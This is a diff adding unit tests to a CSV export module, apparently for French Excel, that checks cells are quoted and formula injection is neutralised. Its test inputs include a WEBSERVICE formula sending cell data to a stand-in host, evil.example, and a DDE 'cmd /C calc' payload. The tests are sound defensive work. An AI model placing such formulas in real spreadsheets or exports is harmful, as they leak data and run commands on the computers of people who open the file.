@@ -27,6 +27,33 @@ describe("CSV for Excel in French", () => {
     expect(decimal(null, 2)).toBe("");
   });
 
+  it("defuses a formula hidden after a comma, a semicolon, a tab or a line break, and quotes the cell", () => {
+    // Excel in English splits on commas: the second half would run as a formula.
+    expect(textCell("x,=WEBSERVICE(\"https://evil.example/?\"&A1)")).toBe('"x,\'=WEBSERVICE(""https://evil.example/?""&A1)"');
+    expect(textCell("Lyon;+1+1")).toBe(`"Lyon;'+1+1"`);
+    expect(textCell("Lyon\t@SUM(A1)")).toBe(`"Lyon\t'@SUM(A1)"`);
+    expect(textCell("Lyon, -1+cmd|' /C calc'!A0")).toBe(`"Lyon,' -1+cmd|' /C calc'!A0"`);
+    expect(textCell("Lyon\n=1+1")).toBe(`"Lyon\n'=1+1"`);
+    // Every part, however many; the start and a tab or CR at the start too.
+    expect(textCell("=1,=2;=3")).toBe(`"'=1,'=2;'=3"`);
+    expect(textCell("\t=1")).toBe(`"'\t'=1"`);
+    expect(textCell(" =1")).toBe("' =1");
+    // A separator alone quotes the cell and changes nothing else.
+    expect(textCell("Paris, France")).toBe('"Paris, France"');
+    expect(textCell("a\tb")).toBe('"a\tb"');
+  });
+
+  it("leaves the numbers the app writes as numbers, negative ones included", () => {
+    const csv = toCsv(
+      [
+        { title: "Longitude", value: (r: { lng: number; d: number }) => decimal(r.lng, 6), numeric: true },
+        { title: "Écart", value: (r) => r.d },
+      ],
+      [{ lng: -2.2945, d: -12 }]
+    );
+    expect(parseCsv(csv)[1]).toEqual(["-2,294500", "-12"]);
+  });
+
   it("reads back what it wrote", () => {
     const csv = toCsv(
       [
